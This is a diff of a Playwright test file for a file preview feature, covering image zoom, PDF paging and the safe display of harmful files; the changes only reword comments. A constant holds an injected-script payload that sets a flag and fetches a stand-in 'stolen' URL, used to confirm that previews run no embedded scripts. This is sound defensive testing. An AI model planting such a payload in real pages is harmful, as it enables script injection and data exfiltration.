@@ -7,7 +7,7 @@ import { pane, shared, show } from '../acts/preview-acts.ts';
 const MIB = 1024 * 1024;
 const HACK = "window.top.__hacked = true; fetch('https://example.com/stolen')";
 
-/** Collects the `Range` headers of preview requests from now on. */
+/** Returns a list. From now on, the `Range` header of each preview request is added to the list. */
 function recordRanges(page: Page): (string | undefined)[] {
   const ranges: (string | undefined)[] = [];
   page.on('request', (request) => {
@@ -28,7 +28,7 @@ test('zooms a picture by buttons, keys, double click and wheel, and hides its co
   await expect(level).toHaveText('100%');
   expect(await violations(visitor)).toEqual([]);
 
-  // The controls may be hidden by now. Moving the mouse over the picture shows the controls again.
+  // The controls may be hidden now. A mouse move over the picture shows the controls again.
   await picture.hover();
   await visitor.getByRole('button', { name: 'Zoom in' }).click();
   await expect(level).toHaveText('150%');
@@ -89,7 +89,7 @@ test('loads a PDF page by page, and runs nothing in it', async ({ page, newVisit
 
   const pages = visitor.getByRole('region', { name: 'Pages of paper.pdf' });
   await pages.focus();
-  // The list may still grow when the key is pressed. The height of a page is known only after the page is read.
+  // The list may still grow when the key is pressed, because a page has a known height only after the page was read.
   await expect(async () => {
     await visitor.keyboard.press('End');
     await expect(visitor.getByText('This is page 20', { exact: true })).toBeAttached({ timeout: 5000 });
@@ -179,7 +179,7 @@ test('shows harmful files without running them', async ({ page, newVisitor }) =>
   await expect(visitor.getByText('This PDF could not be read. It may be damaged.')).toBeVisible();
   await show(visitor, 'broken.mp4');
   await expect(visitor.getByText('Your browser cannot play this video.')).toBeVisible();
-  // Waits until the browser is idle. By then, a script in the file would have run.
+  // Until the browser is idle, a script in the file would have run.
   await visitor.evaluate(() => new Promise((resolve) => requestIdleCallback(resolve)));
   expect(await visitor.evaluate(() => '__hacked' in window)).toBe(false);
   expect(dialogs).toEqual([]);
